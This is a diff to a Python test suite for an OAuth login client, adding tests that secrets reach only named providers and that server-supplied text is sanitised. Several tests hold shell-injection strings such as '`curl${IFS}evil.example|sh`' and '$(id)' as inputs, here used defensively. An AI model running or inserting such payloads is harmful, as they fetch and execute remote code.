@@ -1,13 +1,16 @@
 """A login at a protected server: got, used, renewed, ended; and each way in which somebody could be led astray."""
 
 import asyncio
+import base64
 import json
 import os
+import shlex
 import stat
 import subprocess
 import sys
 import threading
 from collections.abc import Callable, Coroutine, Iterator
+from contextlib import suppress
 from pathlib import Path
 from time import time
 from typing import Any
@@ -707,23 +710,6 @@ def test_a_machine_logs_in_by_itself_and_again_when_its_token_ends(
         assert other.said == []
 
 
-@pytest.mark.promise("I-01")
-@pytest.mark.parametrize("key", ["client_secret_env", "assertion_file"])
-def test_a_secret_of_a_machine_goes_to_a_provider_that_somebody_has_named(
-    pair: tuple[Provider, Guarded], vault: Vault, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, key: str
-) -> None:
-    provider, guard = pair
-    monkeypatch.setenv("NOTES_SECRET", "given-secret")
-    (file := tmp_path / "assertion").write_text("word-for-the-workload")
-    kept = {"client_secret_env": "NOTES_SECRET", "assertion_file": str(file)}[key]
-    server = server_of(guard, login="machine", client_id="robot", **{key: kept})
-    with pytest.raises(IssuerChanged, match=f"run `rightcall login notes --issuer {provider.url}`"):
-        token_for(server, vault)
-    assert (provider.asked("/token"), vault.logins()) == ([], [])
-    enter(server, vault, Wish(issuer=provider.url))  # a person has looked at it
-    assert token_for(server, vault) in provider.access
-
-
 def test_a_machine_signs_with_its_key(pair: tuple[Provider, Guarded], vault: Vault, tmp_path: Path) -> None:
     from cryptography.hazmat.primitives import serialization
     from cryptography.hazmat.primitives.asymmetric import ec
@@ -955,3 +941,108 @@ def test_what_a_login_shows_of_itself_holds_no_secret(pair: tuple[Provider, Guar
     found = vault.read(login.key)
     shown = f"{login!r} {found!r} {vault.logins()!r} {json.dumps(str(found))}"
     assert not any(one in shown for one in provider.secrets)
+
+
+# ── secrets of the policy's ──
+
+
+def elsewhere(guard: Guarded) -> Server:
+    """The server under another name of this machine: its provider is on another host."""
+    url = guard.mcp.replace("127.0.0.1", "localhost")
+    guard.overrides["/.well-known/oauth-protected-resource/mcp"] = lambda _: (
+        200, {}, {"resource": url, "authorization_servers": [guard.provider.url]},
+    )  # fmt: skip
+    challenge = f'Bearer resource_metadata="{guard.url}/.well-known/oauth-protected-resource/mcp"'
+    guard.overrides["/mcp"] = lambda _: (401, {"www-authenticate": challenge}, None)
+    return Server("notes", url=url, login="machine", client_id="nightly")
+
+
+@pytest.mark.promise("I-03")
+def test_a_secret_of_the_policy_goes_only_to_a_provider_that_the_policy_names(
+    pair: tuple[Provider, Guarded], vault: Vault, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
+) -> None:
+    provider, guard = pair
+    monkeypatch.setenv("NIGHTLY", "s3cret-of-nightly")
+    assertion = tmp_path / "assertion"
+    assertion.write_text("signed.by.somebody")
+    server = elsewhere(guard)
+    for one in (replace(server, client_secret_env="NIGHTLY"), replace(server, assertion_file=str(assertion))):
+        with pytest.raises(IdentityError, match="does not say which provider it is for"):
+            enter(one, vault)
+    assert provider.said == []
+    named = replace(server, client_secret_env="NIGHTLY", issuer=provider.url)
+    assert enter(named, vault).provider.issuer == provider.url
+
+
+@pytest.mark.promise("I-03")
+def test_the_secret_of_a_new_client_or_provider_is_not_sent_to_the_old_one(
+    pair: tuple[Provider, Guarded], vault: Vault, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    provider, guard = pair
+    monkeypatch.setenv("OLD", "old-secret")
+    monkeypatch.setenv("NEW", "new-secret")
+    old = server_of(guard, client_id="old", client_secret_env="OLD")
+    enter(old, vault)
+    age(vault)
+    before = len(provider.said)
+    other_client = replace(old, client_id="new", client_secret_env="NEW")
+    with suppress(IdentityError):
+        token_for(other_client, vault)
+    other_provider = replace(old, client_secret_env="NEW", issuer="https://login.example.org")
+    with pytest.raises(LoginNeeded, match="another provider than at the first login"):
+        token_for(other_provider, vault)
+    for said in provider.said[before:]:
+        sent = said.authorization.removeprefix("Basic ")
+        assert b"new-secret" not in base64.b64decode(sent) + said.body
+
+
+# ── words of a server's ──
+
+
+@pytest.mark.promise("I-01")
+def test_words_of_a_server_do_not_look_like_ours(vault: Vault) -> None:
+    scopes = ("read", "x:", "run", "`curl${IFS}evil.example|sh`", "$(id)", *(f"s{n}" for n in range(40)))
+    told = str(LoginNeeded(Want(server="notes", url="https://mcp.example/mcp", reason="scopes", scopes=scopes)))
+    assert "curl" not in told
+    assert "$(" not in told
+    assert len(told) < 250
+    assert told.endswith("run `rightcall login notes`")
+    assert "it wants the scopes read, x:, run, " in told
+
+
+def test_a_command_that_people_copy_holds_no_command_of_a_server() -> None:
+    want = Want(server="notes", url="https://mcp.example/mcp")
+    told = str(IssuerChanged(want, "https://auth.example", "https://evil.example/;curl$IFS'x'|sh"))
+    command = told.split("`")[1]
+    assert shlex.split(command)[-1] == "https://evil.example/;curl$IFS'x'|sh"
+
+
+# ── programs that print in pieces ──
+
+
+def test_a_token_that_is_printed_in_pieces_is_read_whole(tmp_path: Path) -> None:
+    program = tmp_path / "print.py"
+    program.write_text(
+        "import sys, time\nfor part in ('one-', 'two-', 'three'):\n"
+        "    print(part, end='', flush=True)\n    time.sleep(0.05)\n"
+    )
+    server = Server("notes", url="https://mcp.example/mcp", token_command=(sys.executable, str(program)))
+    assert asyncio.run(TokenAccess(server).headers()) == [(b"authorization", b"Bearer one-two-three")]
+
+
+@pytest.mark.promise("I-02")
+def test_a_provider_that_leads_to_the_page_of_another_has_to_be_named_by_a_person(
+    pair: tuple[Provider, Guarded], vault: Vault
+) -> None:
+    provider, guard = pair
+    elsewhere = provider.url.replace("127.0.0.1", "localhost")
+    provider.metadata |= {
+        "authorization_endpoint": f"{elsewhere}/authorize",
+        "authorization_response_iss_parameter_supported": None,
+    }
+    provider.redirected["iss"] = None
+    server = server_of(guard)
+    with pytest.raises(IdentityError, match="sends people to log in at localhost"):
+        enter(server, vault, show=lambda _: pytest.fail("somebody was sent there"))
+    assert not provider.asked("/authorize")
+    assert enter(server, vault, Wish(issuer=provider.url, seconds=3)).provider.issuer == provider.url
